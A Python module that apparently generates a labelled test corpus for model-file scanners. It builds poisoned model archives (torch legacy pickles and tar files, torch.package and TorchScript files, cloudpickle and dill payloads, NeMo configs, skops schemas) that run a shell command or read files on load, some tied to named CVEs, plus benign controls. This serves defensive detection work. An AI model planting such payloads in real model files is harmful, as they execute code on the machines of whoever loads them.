"""What carries pickles: torch in its four forms, functions by value, NeMo and skops archives."""

from __future__ import annotations

import gzip
import json
import pickle
import zlib
from collections.abc import Iterator

from corpus.carrying import tar_of
from corpus.opcodes import (
    BUILD,
    EVIL,
    NONE,
    POP,
    STOP,
    SYSTEM,
    call,
    dict_of,
    literal,
    name,
    new,
    program,
    text,
    tuple_of,
)
from corpus.sample import CODE, SHELL, Draft, container, pickled
from corpus.zip_making import Entry, torch_entries, zip_of


def drafts() -> Iterator[Draft]:
    """All of them."""
    for part in (torch_legacy, torch_packages, by_value, nemo, skops):
        yield from part()


def torch_legacy() -> Iterator[Draft]:
    """Five pickles one after the other, and the tar archive of before 2017: each of them is loaded."""
    honest = [
        pickle.dumps(0x1950A86A20F9469CFC6C, 2),
        pickle.dumps(1001, 2),
        pickle.dumps(
            {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2
        ),
        pickle.dumps({}, 2),
        pickle.dumps([], 2),
    ]
    for i in range(5):
        parts = list(honest)
        parts[i] = parts[i][:-1] + SYSTEM + POP + STOP
        yield container(f"torch-legacy-pickle-{i}", "model.pth", b"".join(parts), "torch")
    yield container("torch-legacy-only-pickle", "model.pth", EVIL, "torch")
    yield container(
        "torch-legacy-persistent-id",
        "model.pth",
        b"".join([*honest[:3], program(tuple_of(text("module"), SYSTEM, NONE, NONE) + b"Q", protocol=2), honest[4]]),
        "torch",
    )
    for evil in ("pickle", "storages", "tensors"):
        members = {
            "sys_info": honest[2],
            "storages": pickle.dumps(0, 2) + pickle.dumps([], 2),
            "tensors": pickle.dumps(0, 2),
            "pickle": honest[3],
        }
        members[evil] = members[evil][:-1] + SYSTEM + POP + STOP
        yield container(f"torch-tar-{evil}", "model.pt", tar_of(members), "torch", cve="CVE-2025-32434")


def torch_packages() -> Iterator[Draft]:
    """``torch.package`` runs the modules that it carries; TorchScript code may read and write files."""

    def package(data: bytes, modules: dict[str, str]) -> bytes:
        entries = [
            Entry("package/.data/extern_modules", b""),
            Entry("package/.data/version", b"6\n"),
            Entry("package/version", b"6\n"),
        ]
        entries += [Entry(f"package/{path}", source.encode()) for path, source in modules.items()]
        return zip_of([*entries, Entry("package/byteorder", b"little"), Entry("package/model/model.pkl", data)])

    reference = program(call(name("net", "make")), protocol=3)
    yield container(
        "torch-package-module",
        "model.pt",
        package(reference, {"net.py": f"import os\nos.system({SHELL!r})\ndef make(): return 1\n"}),
        "torch.package",
    )
    yield container(
        "torch-package-function",
        "model.pt",
        package(reference, {"net.py": f"def make():\n    import os\n    return os.system({SHELL!r})\n"}),
        "torch.package",
    )
    yield container("torch-package-pickle", "model.pt", package(EVIL, {}), "")
    yield container(
        "torch-zip-second-pickle", "model.pt", zip_of([*torch_entries(program(b"}")), Entry("archive/extra.pkl", EVIL)])
    )
    reading = "torch.from_file('/etc/canary', True, 10)"
    script = f"class Net(Module):\n  def forward(self: __torch__.Net, x: Tensor) -> Tensor:\n    return {reading}\n"
    entries = [
        Entry("archive/data.pkl", program(new(name("__torch__", "Net")) + dict_of() + BUILD, protocol=2)),
        Entry("archive/code/__torch__.py", script.encode()),
        Entry("archive/constants.pkl", program(b")", protocol=2)),
        Entry("archive/version", b"3\n"),
    ]
    yield container("torchscript-reads-files", "model.pt", zip_of(entries))
    entries[2] = Entry("archive/constants.pkl", EVIL)
    entries[1] = Entry("archive/code/__torch__.py", script.replace(reading, "x").encode())
    yield container("torchscript-constants", "model.pt", zip_of(entries))


def by_value() -> Iterator[Draft]:
    """Functions by value that are called while loading (attacks), and that are not (code)."""
    import cloudpickle

    def attack() -> object:
        return __import__("os").system(SHELL)

    class Called:
        def __reduce__(self) -> tuple[object, tuple[()]]:
            return attack, ()

    yield pickled("cloudpickle-called", _by_value(cloudpickle, Called()))
    code = compile(CODE, "x", "exec")
    made = call(
        name("types", "CodeType"),
        *(
            literal(value)
            for value in (
                code.co_argcount,
                0,
                0,
                0,
                code.co_stacksize,
                code.co_flags,
                code.co_code,
                code.co_consts,
                code.co_names,
                (),
                "x",
                "x",
                "x",
                1,
                code.co_linetable,
                code.co_exceptiontable,
                (),
                (),
            )
        ),
    )
    yield pickled(
        "code-type-called",
        program(call(call(name("types", "FunctionType"), made, dict_of(text("__builtins__"), name("sys", "modules"))))),
        loader="",
    )
    yield pickled(
        "cloudpickle-function-called",
        program(call(call(name("cloudpickle.cloudpickle", "_make_function"), made, dict_of(), NONE, NONE, NONE))),
    )
    yield pickled(
        "dill-create-function-called",
        program(call(call(name("dill._dill", "_create_function"), made, dict_of(), NONE, NONE, NONE))),
        loader="",
    )
    yield pickled("dill-load-type", program(call(call(name("dill._dill", "_eval_repr"), text(CODE)))), loader="")
    yield pickled(
        "dill-import-module",
        program(
            call(
                call(
                    name("dill._dill", "_getattribute"),
                    call(name("dill._dill", "_import_module"), text("os")),
                    text("system"),
                ),
                text(SHELL),
            )
        ),
        loader="",
    )

    weights = [1.5, 2.5]

    def predict(row: list[float]) -> float:
        return sum(a * b for a, b in zip(row, weights, strict=False))

    class Model:
        def predict(self, row: list[float]) -> float:
            return predict(row)

    for technique, value in (
        ("function", predict),
        ("lambda", lambda x: x + 1),
        ("class", Model),
        ("instance", Model()),
    ):
        yield Draft(
            f"cloudpickle-{technique}",
            {"model.pkl": _by_value(cloudpickle, value)},
            label="code",
            loader="pickle",
            harm="none",
        )
    dill = program(
        call(
            name("dill._dill", "_create_function"),
            call(
                name("dill._dill", "_create_code"),
                *(
                    literal(v)
                    for v in (1, 0, 0, 1, 2, 67, b"d\0S\0", (None,), (), ("x",), "f", "f", "f", 1, b"", b"", (), ())
                ),
            ),
            dict_of(),
            text("f"),
            NONE,
            NONE,
        )
    )
    yield Draft("dill-function", {"model.pkl": dill}, label="code", harm="none")


def _by_value(cloudpickle: object, value: object) -> bytes:
    """Pickle as if the value came from ``__main__``: functions of a script are pickled by value."""
    import sys

    module = sys.modules[__name__]
    cloudpickle.register_pickle_by_value(module)  # type: ignore[attr-defined]
    try:
        return bytes(cloudpickle.dumps(value))  # type: ignore[attr-defined]
    finally:
        cloudpickle.unregister_pickle_by_value(module)  # type: ignore[attr-defined]


def nemo() -> Iterator[Draft]:
    """A tar archive of a hydra configuration and a checkpoint."""
    weights = zip_of(torch_entries(program(b"}")))
    for technique, target, value in (
        ("system", "os.system", f"command: {SHELL}"),
        ("exec", "builtins.exec", f'_args_: ["{CODE}"]'),
        ("subprocess", "subprocess.Popen", f"args: {SHELL}"),
    ):
        config = f"target: nemo.collections.asr.models.EncDecCTCModel\nencoder:\n  _target_: {target}\n  {value}\n"
        data = tar_of({"./model_config.yaml": config.encode(), "./model_weights.ckpt": weights})
        yield container(f"nemo-target-{technique}", "model.nemo", data, cve="CVE-2025-23304")
    config = b"target: nemo.collections.asr.models.EncDecCTCModel\n"
    yield container(
        "nemo-checkpoint",
        "model.nemo",
        tar_of({"model_config.yaml": config, "model_weights.ckpt": zip_of(torch_entries(EVIL))}),
    )
    zipped = gzip.compress(
        tar_of({"model_config.yaml": config, "model_weights.ckpt": zip_of(torch_entries(EVIL))}), mtime=0
    )
    yield container("nemo-compressed", "model.nemo", zipped)


def skops() -> Iterator[Draft]:
    """A schema that names what `skops.io` builds, and where its own checks were fooled."""

    def schema(node: dict[str, object]) -> bytes:
        root = {"protocol": 2, "_skops_version": "0.11", **node}
        return zip_of([Entry("schema.json", json.dumps(root).encode())])

    def plain(value: object) -> dict[str, object]:
        return {
            "__class__": "str",
            "__module__": "builtins",
            "__loader__": "JsonNode",
            "content": json.dumps(value),
            "is_json": True,
        }

    arguments = {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": [plain(SHELL)]}
    yield container(
        "skops-function",
        "model.skops",
        schema(
            {
                "__class__": "function",
                "__module__": "builtins",
                "__loader__": "FunctionNode",
                "content": {"module_path": "os", "function": "system"},
            }
        ),
    )
    yield container(
        "skops-operator",
        "model.skops",
        schema({"__class__": "call", "__module__": "builtins", "__loader__": "OperatorFuncNode", "attrs": arguments}),
        cve="CVE-2025-54412",
    )
    yield container(
        "skops-operator-methodcaller",
        "model.skops",
        schema(
            {
                "__class__": "methodcaller",
                "__module__": "operator",
                "__loader__": "OperatorFuncNode",
                "attrs": arguments,
            }
        ),
        cve="CVE-2025-54412",
    )
    yield container(
        "skops-method",
        "model.skops",
        schema(
            {
                "__class__": "builtin_function_or_method",
                "__module__": "builtins",
                "__loader__": "MethodNode",
                "content": {
                    "func": "__globals__",
                    "obj": {
                        "__class__": "Popen",
                        "__module__": "subprocess",
                        "__loader__": "ObjectNode",
                        "content": plain({}),
                    },
                },
            }
        ),
        cve="CVE-2025-54413",
    )
    yield container(
        "skops-reduce",
        "model.skops",
        schema(
            {
                "__class__": "Popen",
                "__module__": "subprocess",
                "__loader__": "ReduceNode",
                "content": {"reduce": {"args": arguments}, "constructor": {"__class__": "system", "__module__": "os"}},
            }
        ),
    )
    yield container("skops-joblib-fallback", "model.skops", zlib.compress(EVIL), "joblib", cve="CVE-2025-54886")
    yield container(
        "skops-pickle-member", "model.skops", zip_of([Entry("schema.json", b"{}"), Entry("object.pkl", EVIL)])
    )
